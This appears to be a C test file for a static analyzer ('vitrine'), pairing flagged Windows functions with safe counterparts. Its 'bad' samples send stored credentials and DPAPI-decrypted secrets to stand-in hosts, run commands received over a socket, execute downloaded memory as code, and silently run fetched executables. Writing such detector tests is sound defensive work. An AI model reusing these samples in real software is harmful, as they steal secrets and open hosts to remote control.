/* The rules on Windows, told while compiling: the same as elsewhere, by models alone. */
/* before all others: */
#include <winsock2.h>

#include <process.h>
#include <stdio.h>
#include <urlmon.h>
#include <wincred.h>
#include <windows.h>
#include <wininet.h>
#include <ws2tcpip.h>

static int connected(SOCKET out, const char *host) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
    to.sin_addr.s_addr = inet_addr(host);
    return connect(out, (struct sockaddr *)&to, sizeof to);
}

int bad_stored_password(void) {
    PCREDENTIALA found;
    SOCKET out = socket(AF_INET, SOCK_STREAM, 0);
    if (!CredReadA("backup", CRED_TYPE_GENERIC, 0, &found) || connected(out, "198.51.100.7"))
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return send(out, (const char *)found->CredentialBlob, (int)found->CredentialBlobSize, 0);
}

/* The server that the user set up gets the password for it. */
int good_stored_password(void) {
    PCREDENTIALA found;
    char host[256];
    SOCKET out = socket(AF_INET, SOCK_STREAM, 0);
    if (!GetEnvironmentVariableA("BACKUP_HOST", host, sizeof host) ||
        !CredReadA(host, CRED_TYPE_GENERIC, 0, &found) || connected(out, host))
        return -1;
    return send(out, (const char *)found->CredentialBlob, (int)found->CredentialBlobSize, 0);
}

/* Unsealed for one user, then posted by the system's HTTP client. */
int bad_unsealed(DATA_BLOB *sealed) {
    DATA_BLOB clear = {0, NULL};
    if (!CryptUnprotectData(sealed, NULL, NULL, NULL, NULL, 0, &clear))
        return -1;
    HINTERNET session = InternetOpenA("agent", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET to =
        InternetConnectA(session, "collect.example", 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
    HINTERNET request = HttpOpenRequestA(to, "POST", "/in", NULL, NULL, NULL, 0, 0);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return HttpSendRequestA(request, NULL, 0, clear.pbData, clear.cbData);
}

int bad_command(SOCKET in) {
    char line[512];
    int got = recv(in, line, sizeof line - 1, 0);
    if (got <= 0)
        return -1;
    line[got] = 0;
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-command]}}
    return WinExec(line, SW_HIDE) > 31;
}

/* The message chooses among commands that the program knows. */
int good_command(SOCKET in) {
    char line[16];
    if (recv(in, line, sizeof line, 0) <= 0)
        return -1;
    return WinExec(line[0] == 'r' ? "net stop spooler" : "net start spooler", SW_HIDE) > 31;
}

int bad_page(HINTERNET request) {
    DWORD got, before;
    char *page = VirtualAlloc(NULL, 65536, MEM_COMMIT, PAGE_READWRITE);
    if (!page || !InternetReadFile(request, page, 65536, &got))
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-code]}}
    if (!VirtualProtect(page, 65536, PAGE_EXECUTE_READ, &before))
        return -1;
    return ((int (*)(void))(void *)page)();
}

/* The same page is only closed for writing. */
int good_page(HINTERNET request) {
    DWORD got, before;
    char *page = VirtualAlloc(NULL, 65536, MEM_COMMIT, PAGE_READWRITE);
    if (!page || !InternetReadFile(request, page, 65536, &got))
        return -1;
    return VirtualProtect(page, 65536, PAGE_READONLY, &before);
}

int bad_download(void) {
    if (URLDownloadToFileA(NULL, "http://updates.example/agent.exe", "C:\\Windows\\Temp\\agent.exe",
                           0, NULL))
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/insecure-transport]}}
    return WinExec("C:\\Windows\\Temp\\agent.exe", SW_HIDE) > 31;
}

/* What is fetched is shown, and what is run is the program's own. */
int good_download(void) {
    if (URLDownloadToFileA(NULL, "http://updates.example/news.txt", "C:\\Windows\\Temp\\news.txt",
                           0, NULL))
        return -1;
    return WinExec("C:\\Windows\\notepad.exe", SW_SHOW) > 31;
}

/* Letters of 16 bits, and the C library's own names for what it does. */
int bad_wide_download(void) {
    URLDownloadToFileW(NULL, L"http://198.51.100.7/agent.exe", L"C:\\ProgramData\\agent.exe", 0,
                       NULL);
    // expected-warning-re@+1 {{{{.*/agent.exe.*}}[vitrine: update/insecure-transport]}}
    return _wsystem(L"C:\\ProgramData\\agent.exe");
}

int good_wide_command(void) {
    static const wchar_t *const commands[] = {L"ipconfig /flushdns", L"gpupdate"};
    return _wsystem(commands[GetTickCount() & 1]);
}

int bad_printed_command(SOCKET in) {
    char word[64], command[128];
    int got = recv(in, word, sizeof word - 1, 0);
    if (got <= 0)
        return -1;
    word[got] = 0;
    sprintf_s(command, sizeof command, "%s /q", word);
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-command]}}
    return system(command);
}

int good_printed_command(SOCKET in) {
    char word[64], command[128];
    int got = recv(in, word, sizeof word - 1, 0);
    if (got <= 0)
        return -1;
    sprintf_s(command, sizeof command, "%d", got);
    return (int)_spawnlp(_P_WAIT, "sleep.exe", "sleep.exe", command, NULL);
}
